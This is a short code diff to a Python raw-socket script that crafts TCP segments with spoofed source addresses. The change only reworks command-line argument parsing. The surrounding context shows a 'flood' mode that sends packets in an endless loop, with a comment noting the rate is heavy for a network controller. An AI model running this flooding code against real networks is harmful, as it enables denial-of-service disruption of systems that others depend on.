@@ -35,11 +35,10 @@ def segment(mac, source, target, sport, dport, flags):
     ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
     return bytes.fromhex(mac.replace(":", "")) + own + b"\\x08\\x00" + ip + bytes(tcp)
 
-device, what = sys.argv[1], sys.argv[2]
+device, what, *arguments = sys.argv[1:]
 raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 raw.bind((device, 0))
 own = raw.getsockname()[4]
-arguments = sys.argv[3:]
 if what == "flood":
     mac, source, target = arguments
     while True:  # some thousand a second: many for a controller, little for the links
